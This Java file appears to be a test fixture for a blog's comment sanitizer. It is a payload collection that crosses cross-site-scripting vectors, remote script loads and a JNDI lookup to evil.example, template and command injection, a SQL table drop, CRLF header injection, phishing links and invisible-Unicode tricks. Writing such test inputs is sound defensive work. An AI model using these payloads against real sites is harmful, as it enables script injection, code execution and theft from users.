package blog.hostile;

import java.util.ArrayList;
import java.util.List;

/// Comments that were sent to do harm, each by one technique: tables of what is tried and where, crossed.
final class HostileComments {
    /// What is sent; `url` may be empty.
    record Hostile(String technique, String name, String url, String markdown) {}

    private static final List<String> ELEMENTS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
            "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<input autofocus onfocus=alert(1)>",
            "<style>@import 'javascript:alert(1)';</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<base href=//evil.example/>",
            "<math><a xlink:href=javascript:alert(1)>x</a></math>",
            "<video><source onerror=alert(1)></video>",
            "<details open ontoggle=alert(1)>",
            "<body onload=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<template><script>alert(1)</script></template>",
            "<a href=javascript:alert(1)>x</a>",
            "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>");

    /// What may stand around it.
    private static final List<String> PLACES = List.of("%s", "text %s text", "> - %s", "`a`%s**b**", "[a](%s)", "# %s");

    private static final List<String> SCHEMES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "file:///etc/passwd",
            "blob:https://evil.example/x",
            "filesystem:https://evil.example/x",
            "view-source:https://evil.example",
            "intent://evil.example#Intent;end",
            "//evil.example/x",
            "/logout",
            "#top");

    private static final List<String> LINKS = List.of(
            "[x](%s)", "[x](<%s>)", "<%s>", "[x][r]\n\n[r]: %s", "![x](%s)", "[![x](%s)](%1$s)", "[x](%s \"t\")");

    private static final List<String> DISGUISES = List.of(
            "&#106;avascript:alert(1)",
            "&#x6A;avascript:alert(1)",
            "&#0000106avascript:alert(1)",
            "java&#x09;script:alert(1)",
            "java&Tab;script:alert(1)",
            "java&NewLine;script:alert(1)",
            "javascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "javascript\\:alert(1)",
            "javascript%3Aalert(1)",
            "java\u00adscript:alert(1)",
            "java\u200bscript:alert(1)",
            "&#1;javascript:alert(1)",
            "\u00a0javascript:alert(1)",
            "jav\tascript:alert(1)",
            "javas\u212bcript:alert(1)");

    private static final List<String> BREAKOUTS = List.of(
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
            "[x](https://a.example \"\\\" onclick=\\\"alert(1)\")",
            "[x](https://a.example '\" onclick=\"alert(1)')",
            "![\" onerror=\"alert(1)](https://a.example/a.png)",
            "![x](https://a.example/a.png \"\" onerror=\"alert(1)\")",
            "<https://a.example/\"onclick=alert(1)>",
            "[x\"><img src=x onerror=alert(1)>](https://a.example)",
            "```\"><script>alert(1)</script>\nx\n```",
            "```js onload=alert(1)\nx\n```",
            "`\"><svg onload=alert(1)>`",
            "[x](https://a.example){: onclick=alert(1)}",
            "text\n{: style=\"position:fixed\"}",
            "{::nomarkdown}<script>alert(1)</script>{:/}",
            "[x](https://a.example/?a=&quot;onclick=alert(1))",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;script&amp;gt;",
            "\\<script>alert(1)\\</script>");

    /// Such as are something else once they are read, written and read again.
    private static final List<String> MUTATIONS = List.of(
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<textarea></textarea><img src=x onerror=alert(1)>",
            "<title></title><script>alert(1)</script>",
            "<plaintext><script>alert(1)</script>",
            "<!--><script>alert(1)</script>-->",
            "<!-- --!><img src=x onerror=alert(1)>",
            "<![CDATA[><script>alert(1)</script>]]>",
            "<?xml-stylesheet href=javascript:alert(1)?>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<img src=x onerror=alert(1)//<",
            "<img src=\"x\" alt=\"``onerror=alert(1)\">",
            "<a\u0001href=javascript:alert(1)>x</a>",
            "<img\u000csrc=x\u000conerror=alert(1)>",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\ufeff<script>alert(1)</script>",
            "<\u200bscript>alert(1)</script>",
            "﹤script﹥alert(1)﹤/script﹥",
            "\u02bascript\u02bb <\u0338script>");

    private static final List<String> TEMPLATES = List.of(
            "{{constructor.constructor('alert(1)')()}}",
            "{% include '/etc/passwd' %}",
            "${7*7} #{7*7} <%= 7*7 %>",
            "{{ '7'*7 }}{% raw %}",
            "[[${T(java.lang.Runtime).getRuntime()}]]",
            "${jndi:ldap://evil.example/a}",
            "$(sleep 5) `sleep 5`; DROP TABLE comments;--",
            "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
            "%0d%0aLocation:%20https://evil.example",
            "=HYPERLINK(\"https://evil.example\")");

    private static final List<String> LEADING_ASTRAY = List.of(
            "[https://bank.example](https://evil.example)",
            "<https://bank.example@evil.example>",
            "[x](https://bank.example%2F@evil.example)",
            "[x](https://раураl.example)",
            "[x](https://xn--80ak6aa92e.example)",
            "[x](http://3232235777/)",
            "[x](http://[::ffff:169.254.169.254]/)",
            "[x](https:\\\\evil.example)",
            "[x](https:evil.example)",
            "<mailto:a@b.example?bcc=all@c.example&body=x>",
            "[x](HTTPS://EVIL.EXAMPLE)",
            "[x](https://evil.example\u202egpj.exe)");

    private static final List<String> UNSEEN = List.of(
            "\u202aleft\u202c",
            "\u202bright\u202c",
            "\u202dover\u202c",
            "\u202eover\u202c",
            "\u2066left\u2069",
            "\u2067right\u2069",
            "\u2068first\u2069",
            "a\u200b\u200b\u200b\u200bb",
            "a\u200c\u200d\u200c\u200db",
            "a\u2060\ufeff\u2060b",
            "a\u3164\u3164b",
            "a\udb40\udc68\udb40\udc69b",
            "a\udb40\udd01\udb40\udd02b",
            "&#x202e;over",
            "&#8238;over",
            "a&#8203;&#8203;b",
            "a&ZeroWidthSpace;&ZeroWidthSpace;b",
            "a&zwnj;&zwj;&zwnj;b");

    private static final List<String> SHOWN = List.of("%s", "`%s`", "[%s](https://a.example)", "> %s", "```\n%s\n```");

    private HostileComments() {}

    static List<Hostile> all() {
        var all = new ArrayList<Hostile>();
        cross(all, "element", PLACES, ELEMENTS);
        cross(all, "scheme", LINKS, SCHEMES);
        cross(all, "disguise", List.of("[x](%s)", "<%s>", "![x](%s)"), DISGUISES);
        cross(all, "unseen", SHOWN, UNSEEN);
        cross(all, "breakout", List.of("%s"), BREAKOUTS);
        cross(all, "mutation", List.of("%s"), MUTATIONS);
        cross(all, "template", List.of("%s"), TEMPLATES);
        cross(all, "astray", List.of("%s"), LEADING_ASTRAY);
        for (String unit : List.of("> ", ">", "- ", "1. ", "*", "**a ", "[", "![", "`", "<b>", "[a](", "***a_ ")) {
            all.add(new Hostile("nesting", "Eva", "", unit.repeat(1000) + "x"));
        }
        for (String text : UNSEEN) {
            all.add(new Hostile("name", "Eva " + text, "", "x"));
        }
        for (String element : ELEMENTS.subList(0, 10)) {
            all.add(new Hostile("name", element, "", "x"));
        }
        for (String scheme : SCHEMES) {
            all.add(new Hostile("address", "Eva", scheme, "x"));
        }
        all.add(new Hostile("address", "Eva", "https://bank.example@evil.example", "x"));
        all.add(new Hostile("address", "Eva", "https://a.example/\"onclick=\"alert(1)", "x"));
        return all;
    }

    private static void cross(List<Hostile> all, String technique, List<String> places, List<String> tries) {
        for (String place : places) {
            for (String one : tries) {
                all.add(new Hostile(
                        technique, "Eva", "", place.replace("%1$s", "%s").replace("%s", one)));
            }
        }
    }
}
